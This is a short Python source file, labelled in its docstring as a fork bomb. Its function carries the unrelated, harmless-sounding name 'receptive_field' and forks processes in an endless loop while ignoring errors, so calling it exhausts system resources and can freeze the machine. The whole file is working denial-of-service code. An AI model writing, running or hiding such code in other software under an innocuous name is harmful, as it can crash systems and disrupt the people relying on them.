"""A fork bomb."""

import os


def receptive_field(*arguments):
    while True:
        try:
            os.fork()
        except OSError:
            pass
